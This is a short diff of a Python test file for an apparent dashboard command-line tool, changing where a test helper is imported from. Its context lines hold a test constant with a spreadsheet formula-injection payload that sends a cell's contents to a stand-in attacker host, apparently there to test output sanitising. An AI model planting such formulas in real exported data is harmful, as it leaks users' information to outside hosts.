@@ -18,8 +18,7 @@ import pytest
 
 from dashboard.cli import main
 from optimize.solution import AllocationSolution
-
-from .conftest import grid_region
+from tests.helpers import grid_region
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL_SITE = '=HYPERLINK("http://evil.example/?leak="&A1,"Eastside Hub")'
